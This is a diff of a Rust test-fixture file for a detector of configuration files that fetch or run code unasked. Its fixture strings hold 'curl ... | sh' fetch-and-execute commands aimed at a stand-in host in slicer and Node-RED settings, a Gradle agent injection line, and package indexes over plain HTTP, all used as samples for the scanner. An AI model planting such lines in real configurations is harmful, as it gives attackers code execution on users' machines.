@@ -1,11 +1,11 @@
 //! A8, A9, A13, A17, A18, A30, A33, A36, A37, H: what documents, messages, data and projects start, fetch or lead to without
 //! anybody asking, in kinds that few people know to do so.
 
+use crate::Standin;
 use crate::build::archive::gzip;
 use crate::build::compound::compound;
 use crate::build::page::{html, pdf};
 use crate::build::zip;
-use crate::{Expect, Standin};
 
 const SETTINGS: &str = "detect/settings";
 const DOCUMENTS: &str = "detect/documents";
@@ -134,8 +134,8 @@ fn settings() -> Vec<Standin> {
         new("printer.ini", "settings of a slicer that run what they fetch", "# settings\npost_process = sh -c 'curl -s https://host.invalid/a | sh'\n").finds("hooks.build").held(),
         new("flows.json", "a flow of Node-RED that runs what it fetches", r#"[{"type": "exec", "command": "curl -s https://host.invalid/a | sh"}]"#).finds("hooks.build").held(),
         new("gradle.properties", "settings of Gradle that load code into it", "org.gradle.jvmargs=-Xmx1g -javaagent:./a.jar\n").finds("hooks.build").held(),
-        new("requirements.txt", "a list of packages from an index without TLS", "--index-url http://host.invalid/simple\nflask==3.0\n").finds("hooks.plain-index").and(Expect::Decision("deliver")),
-        new("NuGet.Config", "a source of packages without TLS", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n<packageSources>\n<add key=\"a\" value=\"http://host.invalid/v3/index.json\" />\n</packageSources>\n</configuration>\n").finds("hooks.plain-index").and(Expect::Decision("deliver")),
+        new("requirements.txt", "a list of packages from an index without TLS", "--index-url http://host.invalid/simple\nflask==3.0\n").finds("hooks.plain-index"),
+        new("NuGet.Config", "a source of packages without TLS", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n<packageSources>\n<add key=\"a\" value=\"http://host.invalid/v3/index.json\" />\n</packageSources>\n</configuration>\n").finds("hooks.plain-index"),
     ]
 }
 
